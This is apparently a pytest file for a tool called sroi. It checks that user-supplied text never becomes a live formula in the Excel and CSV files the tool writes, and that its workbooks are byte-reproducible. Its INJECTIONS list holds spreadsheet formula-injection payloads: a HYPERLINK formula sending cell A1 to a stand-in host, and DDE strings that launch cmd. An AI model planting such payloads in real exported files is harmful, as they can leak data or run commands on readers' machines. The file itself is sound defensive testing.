"""No live formula from user text in any workbook sroi writes; workbook bytes reproducible.

Injection strings are put in every text field that reaches a workbook or CSV output (delivery
cost descriptions and sources, unit-cost descriptions, units, sources and notes, outcome
labels, the programme name), ``sroi value`` writes its two workbooks (``value_results.xlsx``,
the live ``value_model.xlsx``) and the cost table is written as CSV, and every cell is scanned
for a formula. Agencies and value types are not free text (one of the known names, checked
when the cost table is read); outcome names and cost ids go through the same writers as the
labels and descriptions tested here.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from sroi import Effect
from sroi._xlsx_text import (
    formulas_to_text,
    is_formula_like,
    live_formulas,
    make_reproducible,
    neutralise,
    neutralise_frame,
    set_text,
)
from sroi.cli import main
from tests.report.helpers import (
    SMALL_DELIVERY,
    UNIT_COSTS,
    results_document,
    write_small_evaluation,
)

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_text_for_csv_and_pandas():
    for s in INJECTIONS:
        assert is_formula_like(s) and neutralise(s) == "'" + s
    assert neutralise("link workers") == "link workers" and neutralise(3) == 3
    df = pd.DataFrame({"=bad": INJECTIONS[:2], "n": [1, 2]})
    out = neutralise_frame(df)
    assert out.columns.tolist() == ["'=bad", "n"]
    assert out["'=bad"].tolist() == ["'" + s for s in INJECTIONS[:2]]


def test_text_cells_are_never_formulas(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for i, s in enumerate(INJECTIONS, start=1):
        set_text(ws.cell(row=i, column=1), s)
    p = tmp_path / "t.xlsx"
    wb.save(p)
    assert live_formulas(p) == []
    back = openpyxl.load_workbook(p).active
    kept = [back.cell(row=i, column=1).value for i in range(1, 7)]
    # the text is kept (an XML writer may store CR as LF, depending on whether lxml is used)
    assert [k.replace("\r", "\n") for k in kept] == [x.replace("\r", "\n") for x in INJECTIONS]


def test_pandas_workbook_formulas_turned_to_text(tmp_path):
    p = tmp_path / "p.xlsx"
    pd.DataFrame({"description": INJECTIONS}).to_excel(p, index=False)
    assert live_formulas(p)  # pandas writes '=...' as a live formula
    formulas_to_text(p)
    assert live_formulas(p) == []


def test_workbook_bytes_are_reproducible(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    paths = []
    for name in ("a.xlsx", "b.xlsx"):
        p = tmp_path / name
        pd.DataFrame({"x": [1, 2], "y": ["a", "b"]}).to_excel(p, index=False)
        make_reproducible(p)
        paths.append(p)
        time.sleep(1.1)  # zip entry times have a 2-second resolution; core times 1 second
    assert paths[0].read_bytes() == paths[1].read_bytes()
    assert openpyxl.load_workbook(paths[0]).active["B2"].value == "a"


# ------------------------------------------------------------------ sroi value end to end
def _injected_evaluation(folder: Path) -> tuple[Path, Path]:
    costs = pd.read_csv(UNIT_COSTS, dtype=str)
    inj = INJECTIONS[:4]  # tab and CR are tested in the delivery costs (not CSV-safe)
    costs["notes"] = [inj[i % len(inj)] for i in range(len(costs))]
    for column in ("source", "description", "unit"):
        costs[column] = [
            s if pd.isna(s) else f"{inj[i % len(inj)]} {s}" for i, s in enumerate(costs[column])
        ]
    folder.mkdir(parents=True, exist_ok=True)
    cost_file = folder / "unit_costs.csv"
    costs.to_csv(cost_file, index=False)
    delivery = [dict(d, description=INJECTIONS[0], source=INJECTIONS[3]) for d in SMALL_DELIVERY]
    spec = write_small_evaluation(
        folder,
        **{
            "programme.name": INJECTIONS[0],
            "programme.delivery_costs": delivery,
            "valuation.cost_file": str(cost_file.resolve()),
        },
    )
    effects = [
        Effect.from_estimate(0.01, 0.004, outcome="attendance", n_treated=250),
        Effect.from_estimate(-0.012, 0.006, outcome="suspensions", n_treated=250),
        Effect.from_estimate(-0.004, 0.002, outcome="camhs_referral", n_treated=250),
        Effect.from_estimate(-0.002, 0.002, outcome="csc_referral", n_treated=250),
    ]
    # outcome labels are free text too (outcome names are identifiers matched across sections)
    raw = yaml.safe_load(spec.read_text(encoding="utf-8"))
    for i, o in enumerate(raw["design"]["outcomes"]):
        o["label"] = f"{INJECTIONS[i % 4]} {o['name']}"
    spec.write_text(yaml.safe_dump(raw, sort_keys=False), encoding="utf-8")
    res = folder / "results.json"
    res.write_text(json.dumps(results_document(effects)))
    return spec, res


@pytest.fixture(scope="module")
def value_workbooks(tmp_path_factory):
    base = tmp_path_factory.mktemp("inject")
    spec, res = _injected_evaluation(base / "eval")
    outs = []
    for name in ("a", "b"):
        assert main(["value", str(spec), "--impact", str(res), "-o", str(base / name)]) == 0
        outs.append(base / name / "value_results.xlsx")
        time.sleep(1.1)
    return outs


@pytest.mark.parametrize("name", ["value_results.xlsx", "value_model.xlsx"])
def test_value_workbooks_have_no_live_formula_from_user_text(value_workbooks, name):
    book = value_workbooks[0].parent / name
    found = live_formulas(book)
    from_user = [f for f in found if any(s.strip("\t\r")[1:] in f[2] for s in INJECTIONS)]
    assert from_user == [], f"live formulas from user text ({name}): {from_user}"
    # the injected text is there, as text: the test would see a formula if it were one
    texts = [
        str(c.value)
        for ws in openpyxl.load_workbook(book).worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert any("HYPERLINK" in s for s in texts), name


def test_cost_table_csv_output_has_no_formula_text(tmp_path):
    from sroi.value import load_unit_costs

    spec, _ = _injected_evaluation(tmp_path / "eval")
    table = load_unit_costs(tmp_path / "eval" / "unit_costs.csv")
    out = table.to_csv(tmp_path / "costs_out.csv")
    import csv

    with open(out, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert [c for c in cells if is_formula_like(c) and not _number(c)] == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_value_workbook_is_byte_reproducible(value_workbooks):
    a, b = value_workbooks
    assert a.read_bytes() == b.read_bytes(), "value workbook differs between two runs (issue 14)"
